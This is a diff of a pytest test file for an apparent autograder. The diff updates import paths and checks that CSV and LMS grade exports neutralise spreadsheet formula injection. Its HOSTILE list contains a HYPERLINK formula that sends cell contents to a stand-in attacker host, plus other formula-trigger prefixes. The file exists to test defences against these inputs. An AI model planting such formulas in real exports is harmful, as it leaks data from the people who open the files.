@@ -13,11 +13,11 @@ from pathlib import Path
 
 import pytest
 
-from autograder import grading, lms, spreadsheet
-from autograder.feedback import render
-from autograder.report import AssignmentReport, assignment_page
-from autograder.similarity import Pair, Shared
-from autograder.unit import TestResult as Result
+from autograder.outputs import export, lms, spreadsheet
+from autograder.outputs.feedback import render
+from autograder.outputs.report import AssignmentReport, assignment_page
+from autograder.outputs.similarity import Pair, Shared
+from autograder.pipeline.unit import TestResult as Result
 
 A = "01-why-tensors"
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)", "+1", "-1+2", "\tx", "\rx",
@@ -86,9 +86,9 @@ def test_lms_files_neutralise_every_text_cell_and_keep_scores_numeric(tmp_path, 
 def test_the_csv_export_neutralises_text_and_keeps_scores_numeric(tmp_path, monkeypatch):
     rows = [{"student": h, "assignment": A, "cell": h, "score": s, "max_score": 14.0,
              "status": h} for h, s in zip(HOSTILE, [14.0, 0.0, 2.5, -1.0, "", 3.0, 1.0, 0.0, 7.0])]
-    monkeypatch.setattr(grading, "grade_rows", lambda workdir, by_cell=False, **_: rows)
+    monkeypatch.setattr(export, "grade_rows", lambda workdir, by_cell=False, **_: rows)
     out = tmp_path / "grades.csv"
-    grading.export(tmp_path, out)
+    export.export(tmp_path, out)
     found = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
     assert [r["student"] for r in found] == ["'" + h for h in HOSTILE]
     for r in found:
